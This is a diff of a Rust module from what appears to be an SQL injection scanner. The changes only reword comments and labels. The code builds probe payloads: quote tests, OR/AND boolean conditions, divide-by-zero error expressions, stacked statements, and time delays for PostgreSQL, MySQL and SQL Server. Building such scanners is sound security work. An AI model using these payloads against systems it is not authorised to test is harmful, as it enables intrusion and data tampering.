@@ -1,4 +1,4 @@
-//! What is sent to find out whether a value becomes part of an SQL statement.
+//! Builds the attempts that show whether a value becomes part of an SQL statement.
 
 use super::super::pairs::{self, Ordered};
 use super::super::{reach, traces};
@@ -6,15 +6,15 @@ use super::{WAIT, WAITS};
 use crate::attack::{Aim, Attempt, Brief};
 use crate::knowledge::words;
 
-/// Columns that `UNION` is tried with.
+/// The maximum number of columns of `UNION`.
 const MAX_COLUMNS: usize = 8;
 
-/// Attempts in the making.
+/// Builds the attempts for one aim.
 pub(super) struct AttemptBuilder<'a> {
     aim: &'a Aim,
     brief: &'a Brief<'a>,
     pub(super) innocent: String,
-    /// The tool changes data: no condition may hold for more rows than the innocent value does.
+    /// The tool changes data: no condition may match more rows than the innocent value.
     careful: bool,
     set: usize,
     pub(super) made: Vec<Attempt>,
@@ -44,15 +44,15 @@ impl<'a> AttemptBuilder<'a> {
 
     pub(super) fn quotes(&mut self) {
         let innocent = self.innocent.clone();
-        self.one("a quote and a doubled quote", "quote", format!("{innocent}'"));
-        self.one("a quote and a doubled quote", "doubled", format!("{innocent}''"));
+        self.one("quote and doubled quote", "quote", format!("{innocent}'"));
+        self.one("quote and doubled quote", "doubled", format!("{innocent}''"));
         self.set += 1;
     }
 
-    /// `<` holds with whatever the statement has behind the value, such as the `%` of a `LIKE`.
+    /// `<` keeps its truth value whatever the statement appends to the text, such as the `%` of a `LIKE`.
     pub(super) fn conditions(&mut self) {
         if !self.careful {
-            self.pair("a condition with OR", Ordered::words, |pair| {
+            self.pair("condition with OR", Ordered::words, |pair| {
                 format!("zq' OR '{}'<'{}", pair.low, pair.high)
             });
         }
@@ -60,7 +60,7 @@ impl<'a> AttemptBuilder<'a> {
 
     pub(super) fn double_quotes(&mut self) {
         if !self.careful {
-            self.pair("a condition with OR between double quotes", Ordered::words, |pair| {
+            self.pair("condition with OR in double quotes", Ordered::words, |pair| {
                 format!("zq\" OR \"{}\"<\"{}", pair.low, pair.high)
             });
         }
@@ -68,7 +68,7 @@ impl<'a> AttemptBuilder<'a> {
 
     pub(super) fn conditions_of_innocent(&mut self) {
         let innocent = self.innocent.clone();
-        self.pair("a condition with AND", Ordered::words, |pair| {
+        self.pair("condition with AND", Ordered::words, |pair| {
             format!("{innocent}' AND '{}'<'{}", pair.low, pair.high)
         });
     }
@@ -76,27 +76,27 @@ impl<'a> AttemptBuilder<'a> {
     pub(super) fn numeric(&mut self) {
         let innocent = self.innocent.clone();
         if !self.careful && self.aim.baseline.is_none() {
-            self.pair("a condition with OR after a number", Ordered::numbers, |pair| {
+            self.pair("condition with OR after a number", Ordered::numbers, |pair| {
                 format!("0 OR {}<{}", pair.low, pair.high)
             });
         }
-        self.pair("a condition with AND after a number", Ordered::numbers, |pair| {
+        self.pair("condition with AND after a number", Ordered::numbers, |pair| {
             format!("{innocent} AND {}<{}", pair.low, pair.high)
         });
     }
 
-    /// An expression that fails or not while it runs, wherever a text stands. Each database has its
-    /// own way to fail.
+    /// An expression inside a text that fails at run time if the condition is false. Each
+    /// database fails for a different reason.
     pub(super) fn failures(&mut self) {
         let innocent = self.innocent.clone();
-        self.pair("an expression inside of a text", Ordered::numbers, |pair| {
+        self.pair("expression inside a text", Ordered::numbers, |pair| {
             let failure = "CAST(abs(-9223372036854775808)/0 AS CHAR(9))";
             let (low, high) = (&pair.low, &pair.high);
             format!("{innocent}'||(CASE WHEN {low}<{high} THEN '' ELSE {failure} END)||'")
         });
     }
 
-    /// Whether the value is the name of a table or column, or an order.
+    /// Whether the value is the name of a table or column, or a sort order.
     pub(super) fn is_name(&self) -> bool {
         const NAMES: [&str; 12] = [
             "by",
@@ -117,7 +117,7 @@ impl<'a> AttemptBuilder<'a> {
     }
 
     pub(super) fn names(&mut self) {
-        self.pair("an expression as order", Ordered::numbers, |pair| {
+        self.pair("expression as sort order", Ordered::numbers, |pair| {
             format!(
                 "(CASE WHEN {}<{} THEN 1 ELSE (SELECT abs(-9223372036854775808)/0 FROM (SELECT 1 UNION SELECT 2) q) END)",
                 pair.low, pair.high
@@ -125,13 +125,13 @@ impl<'a> AttemptBuilder<'a> {
         });
     }
 
-    /// A comment, and the same signs in another order. It changes nothing, so every tool gets it.
+    /// A comment, and the same characters in another order. Comments change nothing, so every tool gets them.
     pub(super) fn comment(&mut self) {
-        // A name that nobody knows does as well.
+        // An unknown name works as well.
         let plain = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.';
         let is_plain = !self.innocent.is_empty() && self.innocent.chars().all(plain);
         let innocent = if is_plain { self.innocent.clone() } else { "q".to_owned() };
-        self.pair("a comment behind a name or number", Ordered::words, |pair| {
+        self.pair("comment after a name or number", Ordered::words, |pair| {
             let tail = &pair.low[2..];
             if pair.low < pair.high {
                 format!("{innocent}/*{tail}*/")
@@ -156,12 +156,12 @@ impl<'a> AttemptBuilder<'a> {
         }
     }
 
-    /// A file that SQLite makes, and nothing else.
+    /// Makes SQLite create a file. Changes nothing else.
     pub(super) fn statements(&mut self) {
         let ends = [
-            ("a further statement behind a condition", "' WHERE 1=0;"),
-            ("a further statement behind a list", "');"),
-            ("a further statement", "';"),
+            ("additional statement after a condition", "' WHERE 1=0;"),
+            ("additional statement after a list", "');"),
+            ("additional statement", "';"),
         ];
         for (form, end) in ends.into_iter().take(if self.careful { 2 } else { 3 }) {
             let nonce = self.brief.nonce();
@@ -177,9 +177,9 @@ impl<'a> AttemptBuilder<'a> {
         let (innocent, seconds) = (self.innocent.clone(), WAIT.as_secs());
         let sleep = format!("(SELECT 1 FROM (SELECT SLEEP({seconds})) q)");
         let waits = [
-            ("a wait of PostgreSQL", format!("'||(SELECT '' FROM pg_sleep({seconds}))||'")),
-            ("a wait of MySQL", format!("' AND {sleep} AND '1'='1")),
-            ("a wait of SQL Server", format!("';WAITFOR DELAY '0:0:{seconds}';-- ")),
+            ("wait in PostgreSQL", format!("'||(SELECT '' FROM pg_sleep({seconds}))||'")),
+            ("wait in MySQL", format!("' AND {sleep} AND '1'='1")),
+            ("wait in SQL Server", format!("';WAITFOR DELAY '0:0:{seconds}';-- ")),
         ];
         for (form, wait) in waits.into_iter().take(if self.careful { 2 } else { 3 }) {
             self.one(form, WAITS, format!("{innocent}{wait}"));
@@ -188,7 +188,7 @@ impl<'a> AttemptBuilder<'a> {
     }
 }
 
-/// A value without quotes of its own, which would spoil all that is hung on it: its longest word.
+/// The value, or its longest word if it contains quotes, since these would break the payload after it.
 pub(super) fn tame(value: String) -> String {
     if !value.contains(['\'', '"', '`']) {
         return value;
